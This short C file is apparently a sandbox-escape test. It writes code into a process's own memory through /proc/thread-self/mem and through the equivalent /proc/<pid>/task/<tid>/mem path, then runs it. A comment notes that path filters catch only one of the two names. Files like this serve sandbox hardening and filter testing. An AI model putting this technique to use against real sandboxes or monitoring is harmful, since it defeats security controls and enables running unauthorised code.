// The same file by the names /proc/thread-self/mem and /proc/self/task/TID/mem: filters of paths miss one of them.
#include "escape.h"
int main(void)
{
	void *p = file_page();
	char *path = NULL;
	asprintf(&path, "/proc/%d/task/%d/mem", getpid(), gettid());
	int fd = open("/proc/thread-self/mem", O_RDWR);
	if (fd >= 0 && pwrite(fd, code42, sizeof code42, (off_t)p) > 0)
		run42(p);
	poke42(path, p);
	run42(p);
}
